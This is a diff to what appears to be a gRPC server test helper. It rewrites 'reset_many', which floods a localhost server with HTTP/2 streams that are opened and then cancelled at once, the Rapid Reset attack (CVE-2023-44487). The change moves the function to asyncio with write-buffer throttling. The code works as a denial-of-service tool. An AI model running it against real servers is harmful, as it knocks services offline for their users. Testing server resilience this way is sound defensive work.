@@ -7,7 +7,6 @@ As gRPC's own client does, a connection holds back what is more than the server 
 
 import asyncio
 import random
-import socket
 import struct
 from time import perf_counter
 from typing import cast
@@ -38,26 +37,24 @@ def reset_many(port: int, path: str, seconds: float) -> int:
     """Opens calls over one connection and cancels each at once, as fast as the server lets it (CVE-2023-44487).
 
     Returns:
-        How many, until the seconds were over or the server closed the connection.
+        How many were written, until the seconds were over or the connection closed.
     """
-    head, stream = _headers(path), 1
-    with socket.create_connection(("127.0.0.1", port)) as connection:
-        connection.settimeout(0.05)
-        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
-        until = perf_counter() + seconds
-        while perf_counter() < until:
+    return uvloop.run(_reset_many(port, path, seconds))
+
+
+async def _reset_many(port: int, path: str, seconds: float) -> int:
+    loop, load = asyncio.get_running_loop(), Load()
+    transport, connection = await loop.create_connection(lambda: _Connection(path, b"", load), "127.0.0.1", port)
+    await connection.welcome
+    head, cancel, stream, until = _headers(path), struct.pack(">I", _CANCEL), 1, perf_counter() + seconds
+    while perf_counter() < until and not transport.is_closing():
+        if transport.get_write_buffer_size() < 1 << 16:
             calls = range(stream, stream + 100, 2)
-            cancel = struct.pack(">I", _CANCEL)
             pairs = (_frame(_HEADERS, _END_HEADERS, at, head) + _frame(_RST, 0, at, cancel) for at in calls)
-            try:
-                connection.sendall(b"".join(pairs))
-                if not connection.recv(1 << 16):
-                    break
-            except TimeoutError:
-                pass
-            except OSError:
-                break
-            stream = calls.stop + 1
+            transport.write(b"".join(pairs))
+            stream = calls.stop
+        await asyncio.sleep(0)  # reads, and acknowledges what the server asks
+    transport.abort()
     return stream // 2
 
 
